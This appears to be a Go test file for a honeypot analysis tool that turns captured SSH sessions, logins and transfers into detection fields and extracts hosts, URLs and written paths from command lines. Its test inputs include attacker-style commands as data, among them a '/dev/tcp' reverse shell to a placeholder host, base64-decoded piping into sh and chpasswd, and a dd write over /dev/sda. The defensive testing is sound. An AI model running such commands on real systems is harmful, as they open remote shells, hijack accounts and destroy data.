package facts

import (
	"strings"
	"testing"

	"github.com/ttpstream/ttpstream/rules/match"
	"github.com/ttpstream/ttpstream/schemas"
)

func TestLift(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name  string
		kind  schemas.SourceKind
		given map[string]any
		want  string // Base, in the order of the lifter; secrets
	}{
		{"command", schemas.KindCommand, map[string]any{"command": "id", "protocol": "ssh", "sensor": "s1"},
			`command="id" command.depth=0 command.parse="shell" command.count=1 command.truncated=false command.names="id" session.protocol="ssh" sensor="s1"`},
		{"login", schemas.KindAuthAttempt, map[string]any{"username": "root", "password": "x", "success": true, "method": "password", "protocol": "ssh"},
			`auth.username="root" auth.password="x" auth.success=true auth.method="password" auth.protocol="ssh" auth.pair="root:x" secret="x"`},
		{"hashed password", schemas.KindAuthAttempt, map[string]any{"username": "root", "password": "9f86d0", "password_hashed": true},
			`auth.username="root" auth.password="9f86d0" auth.success=false secret="9f86d0"`},
		{"public key", schemas.KindAuthAttempt, map[string]any{"method": "publickey", "key_fingerprint": "SHA256:abc"},
			`auth.success=false auth.method="publickey" auth.key_fingerprint="SHA256:abc"`},
		{"key exchange", schemas.KindSession, map[string]any{"activity": "client_kex", "hassh": "ec7378c1", "hassh_algorithms": "a;b"},
			`session.activity="client_kex" session.hassh="ec7378c1" session.hassh_algorithms="a;b"`},
		{"connection", schemas.KindSession, map[string]any{"activity": "connect", "protocol": "ssh", "src_port": 40000, "dst_port": uint64(22)},
			`session.activity="connect" session.protocol="ssh" session.src_port=40000 session.dst_port=22`},
		{"end", schemas.KindSession, map[string]any{"activity": "closed", "duration_seconds": 1.5},
			`session.activity="closed" session.duration=1.5`},
		{"tunnel", schemas.KindSession, map[string]any{"activity": "forward_data", "forward_host": "h", "forward_port": 80, "forward_data": "GET / HTTP/1.1\r\nAuthorization: Basic dTpw\r\nHost: h\r\n"},
			`session.activity="forward_data" session.forward_host="h" session.forward_port=80 session.forward_data="GET / HTTP/1.1\r\nAuthorization: Basic dTpw\r\nHost: h\r\n" secret="dTpw"`},
		{"variable", schemas.KindSession, map[string]any{"activity": "client_var", "var_name": "DB_PASS", "var_value": "pw1", "arch": "x"},
			`session.activity="client_var" session.var_name="DB_PASS" session.var_value="pw1" session.arch="x" secret="pw1"`},
		{"download", schemas.KindTransfer, map[string]any{"direction": "download", "success": true, "url": "http://u:pw2@198.51.100.4:8080/x", "sha256": "ab", "size": 12},
			`transfer.direction="download" transfer.success=true transfer.url="http://u:pw2@198.51.100.4:8080/x" transfer.host="198.51.100.4" transfer.sha256="ab" transfer.size=12 secret="pw2"`},
		{"upload", schemas.KindTransfer, map[string]any{"direction": "upload", "filename": "x.sh", "path": "/srv/x", "protocol": "sftp"},
			`transfer.direction="upload" transfer.success=false transfer.filename="x.sh" transfer.path="/srv/x" session.protocol="sftp"`},
		{"address without scheme", schemas.KindPayload, map[string]any{"direction": "created", "url": "example.com/x"},
			`transfer.direction="created" transfer.success=false transfer.url="example.com/x" transfer.host="example.com"`},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			e, err := Lift(test.kind, test.given)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range e.Base.All() {
				got = append(got, f.Name+"="+join(f))
			}
			for _, secret := range e.Secrets {
				got = append(got, "secret="+join(match.Field{Values: []match.Value{match.Text(secret)}}))
			}
			if got := strings.Join(got, " "); got != test.want {
				t.Errorf("got  %s\nwant %s", got, test.want)
			}
			if e.SourceKind != test.kind {
				t.Errorf("source kind %q", e.SourceKind)
			}
		})
	}
}

func TestLiftRefuses(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name  string
		kind  schemas.SourceKind
		given map[string]any
		want  string
	}{
		{"unknown key", schemas.KindCommand, map[string]any{"comand": "id"}, `given: unknown field "comand"`},
		{"case", schemas.KindCommand, map[string]any{"Command": "id"}, `given: unknown field "Command"`},
		{"another record's key", schemas.KindCommand, map[string]any{"username": "root"}, `given: unknown field "username"`},
		{"type", schemas.KindAuthAttempt, map[string]any{"password": 123456}, "given: password: have a number, want a string"},
		{"kind", schemas.KindCorrelation, map[string]any{}, `given: no lifter for source kind "correlation"`},
		{"no kind", "", nil, `given: no lifter for source kind ""`},
		{"given kind", schemas.KindCommand, map[string]any{"source_kind": "session"}, `given: source_kind: "session", want "command"`},
		{"invalid", schemas.KindSession, map[string]any{"activity": "dance"}, `activity: unknown value "dance"`},
		{"no activity", schemas.KindSession, nil, `activity: unknown value ""`},
		{"no JSON", schemas.KindCommand, map[string]any{"command": func() {}}, "given: no JSON value"},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			if _, err := Lift(test.kind, test.given); err == nil || !strings.Contains(err.Error(), test.want) {
				t.Errorf("got %v, want %s", err, test.want)
			}
		})
	}
}

// TestLiftersReset: an event that is used again holds nothing of the last.
func TestLiftersReset(t *testing.T) {
	t.Parallel()
	used := lifted("echo cm9vdDpwdzEyMzQ= | base64 -d | chpasswd; a | b")
	LiftTransfer(&schemas.TransferEvent{Direction: schemas.TransferUpload, Filename: "f\xff"}, used)
	fresh := new(match.Event)
	LiftTransfer(&schemas.TransferEvent{Direction: schemas.TransferUpload, Filename: "f\xff"}, fresh)
	if dump(used) != dump(fresh) {
		t.Errorf("got %s\nwant %s", dump(used), dump(fresh))
	}
	if name, _ := fresh.Base.Lookup("transfer.filename"); name[0] != match.Text("f\uFFFD") {
		t.Errorf("filename %q", name)
	}
}

func TestWeight(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]float64{
		"id":                           1,
		"echo aWQ= | base64 -d | sh":   0.95,
		"id; )":                        0.9,
		"echo aWQ= | base64 -d; id; )": 0.85,
	} {
		if got := lifted(line).Weight; got != want {
			t.Errorf("%s: weight %v, want %v", line, got, want)
		}
	}
}

// TestPlaces: what a command talks to, and what it writes.
func TestPlaces(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ line, urls, hosts, writes string }{
		{"wget http://a.example:80/x -O f", `"http://a.example:80/x"`, `"a.example"`, `"f"`},
		{"wget -Of 198.51.100.4/x", `"198.51.100.4/x"`, `"198.51.100.4"`, `"f"`},
		{"wget --output-document=f example.com", `"example.com"`, `"example.com"`, `"f"`},
		{"wget -O- example.com/x.sh", `"example.com/x.sh"`, `"example.com"`, ""},
		{"curl -sLo out.sh --output two http://[2001:db8::1]:8/x", `"http://[2001:db8::1]:8/x"`, `"2001:db8::1"`, `"out.sh" "two"`},
		{"curl -O http://h/a/b.tgz?x=1 -T up.sh", `"http://h/a/b.tgz?x=1"`, `"h"`, `"b.tgz"`},
		{"curl ifconfig.example", `"ifconfig.example"`, `"ifconfig.example"`, ""},
		{"dd if=a of=/dev/sda", "", "", `"/dev/sda"`},
		{"echo x | tee a b", "", "", `"a" "b"`},
		{"nc 198.51.100.4 80 > f 2>&1", "", `"198.51.100.4"`, `"f"`},
		{"x --to=198.51.100.4:53 10.0.0.0/8 a.b.c 1.2.3 1.2.3.4.5 v1.2:3 ::1 12:30:45", "", `"198.51.100.4" "10.0.0.0" "::1"`, ""},
		{"ssh -p 22 u@host.example; ", "", `"host.example"`, ""},
		{"bash -i >& /dev/tcp/h.example/1", "", `"h.example"`, `"/dev/tcp/h.example/1"`},
		{"x 'see http://a/1, and http://b/2;'", `"http://a/1," "http://b/2"`, `"a" "b"`, ""},
	} {
		e := lifted(test.line)
		f := &e.Scopes[len(e.Scopes)-1]
		for name, want := range map[string]string{"cmd.urls": test.urls, "cmd.hosts": test.hosts, "cmd.writes": test.writes} {
			values, _ := f.Lookup(name)
			if got := join(match.Field{Values: values}); got != want {
				t.Errorf("%s: %s: got %s, want %s", test.line, name, got, want)
			}
		}
	}
}

// TestFlags: options as written, and what they are made of.
func TestFlags(t *testing.T) {
	t.Parallel()
	e := lifted("tar -xzf a --file=b -C /tmp -1x -toolong - -- x")
	for name, want := range map[string]string{
		"cmd.flags":    `"-xzf" "-x" "-z" "-f" "--file=b" "--file" "-C" "-1x" "-toolong" "--"`,
		"cmd.operands": `"a" "/tmp" "-" "x"`,
		"cmd.line":     `"tar -xzf a --file=b -C /tmp -1x -toolong - -- x"`,
	} {
		values, _ := e.Scopes[0].Lookup(name)
		if got := join(match.Field{Values: values}); got != want {
			t.Errorf("%s: got %s, want %s", name, got, want)
		}
	}
}
